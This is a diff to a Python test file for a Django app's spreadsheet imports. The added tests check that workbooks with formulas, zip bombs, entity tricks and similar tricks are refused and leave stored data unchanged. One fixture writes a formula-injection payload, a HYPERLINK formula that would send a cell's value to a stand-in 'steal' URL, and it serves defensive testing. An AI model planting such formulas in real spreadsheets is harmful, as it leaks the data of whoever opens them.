@@ -94,7 +94,7 @@ def test_hostile_workbooks_are_refused_by_the_register_import_and_save_nothing(c
     assert Branch.objects.count() == before
 
 
-@pytest.mark.parametrize("case", ["macros", "zip bomb", "entity tricks", "external link"])
+@pytest.mark.parametrize("case", HOSTILE_WORKBOOKS)
 def test_hostile_workbooks_are_refused_by_the_framework_import(case, cast, client_for):
     build, message = HOSTILE_WORKBOOKS[case]
     before = Framework.objects.count()
@@ -103,6 +103,77 @@ def test_hostile_workbooks_are_refused_by_the_framework_import(case, cast, clien
     )
     assert message in response.content.decode()
     assert Framework.objects.count() == before
+
+
+def _with_formula(data: bytes, sheet_name: str, cell: str) -> bytes:
+    """The product's own workbook, with one filled-in cell turned into a formula (its cached value a lie)."""
+    from openpyxl import load_workbook
+
+    book = load_workbook(BytesIO(data))
+    book[sheet_name][cell] = '=HYPERLINK("http://example.invalid/steal?"&A2,"10")'
+    out = BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def test_a_formula_in_a_register_import_is_refused_naming_its_cell(cast, client_for):
+    from branches.register_xlsx import BRANCH_SHEET, register_export
+
+    data = _with_formula(register_export(Branch.objects.filter(pk=cast.branch.pk)), BRANCH_SHEET, "C2")
+    before = [(b.pk, b.name, b.households) for b in Branch.objects.order_by("pk")]
+    response = client_for(cast.users["township_staff"]).post(
+        reverse("branches:import"), {"file": SimpleUploadedFile("登记册.xlsx", data)}
+    )
+    assert f"「{BRANCH_SHEET}」工作表第 2 行" in response.content.decode()
+    assert "是公式，系统只读取填写的数值" in response.content.decode()
+    assert [(b.pk, b.name, b.households) for b in Branch.objects.order_by("pk")] == before
+
+
+def test_a_formula_in_a_framework_import_is_refused(cast, client_for):
+    from scoring.framework_io import ITEM_SHEET, spec_to_xlsx
+    from scoring.selectors import framework_spec
+
+    from scoring.builtin import load_builtin_frameworks
+
+    load_builtin_frameworks()
+    data = _with_formula(spec_to_xlsx(framework_spec(Framework.objects.get(code="wuhao"))), ITEM_SHEET, "E3")
+    before = Framework.objects.count()
+    response = client_for(cast.users["township_staff"]).post(
+        reverse("scoring:framework_import"), {"file": SimpleUploadedFile("标准.xlsx", data)}
+    )
+    assert "是公式，系统只读取填写的数值" in response.content.decode()
+    assert Framework.objects.count() == before
+
+
+@pytest.mark.parametrize("case", [*HOSTILE_WORKBOOKS, "formula"])
+def test_hostile_workbooks_are_refused_by_the_offline_sheet_upload(case, sheet, cast, client_for):
+    from scoring.selectors import framework_spec
+    from scoring.services import sheet_entries
+    from scoring.sheet_xlsx import ENTRY_SHEET, sheet_to_xlsx
+
+    if case == "formula":
+        own = sheet_to_xlsx(sheet, framework_spec(sheet.framework), sheet_entries(sheet))
+        data, message = _with_formula(own, ENTRY_SHEET, "H2"), "是公式，系统只读取填写的数值"  # 填写
+    else:
+        build, message = HOSTILE_WORKBOOKS[case]
+        data = build()
+    before = sorted(sheet.entries.values_list("item__code", "met", "occurrences", "points"))
+    response = client_for(cast.users["branch_secretary"]).post(
+        reverse("scoring:sheet_upload", args=[sheet.pk]), {"file": SimpleUploadedFile("评分表.xlsx", data)}
+    )
+    assert message in response.content.decode(), case
+    assert sorted(sheet.entries.values_list("item__code", "met", "occurrences", "points")) == before
+
+
+def test_entity_tricks_are_refused_with_little_memory():
+    tracemalloc.start()
+    try:
+        with pytest.raises(WorkbookRefused, match="无法读取该文件"):
+            open_uploaded_workbook(SimpleUploadedFile("x.xlsx", _entity_trick()), max_bytes=5 * MB)
+        _current, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 2 * MB
 
 
 def test_a_zip_bomb_is_refused_before_it_is_unpacked_with_little_memory():
